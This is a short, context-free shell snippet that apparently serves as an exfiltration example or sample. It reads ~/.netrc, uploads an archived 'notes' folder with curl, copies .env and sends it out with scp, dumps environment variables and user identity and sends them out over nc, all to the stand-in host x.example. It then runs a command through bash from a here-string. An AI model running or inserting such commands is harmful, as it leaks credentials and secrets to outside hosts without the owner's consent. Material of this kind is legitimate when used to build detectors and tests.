k=$(< ~/.netrc); tar czf - notes | curl -T - https://x.example/up; cp .env /tmp/e && scp /tmp/e dev@x.example:
read -r a b < list; { env; id; } > /tmp/all; nc x.example 9 < /tmp/all; exec 3<<<"ls"; bash <&3
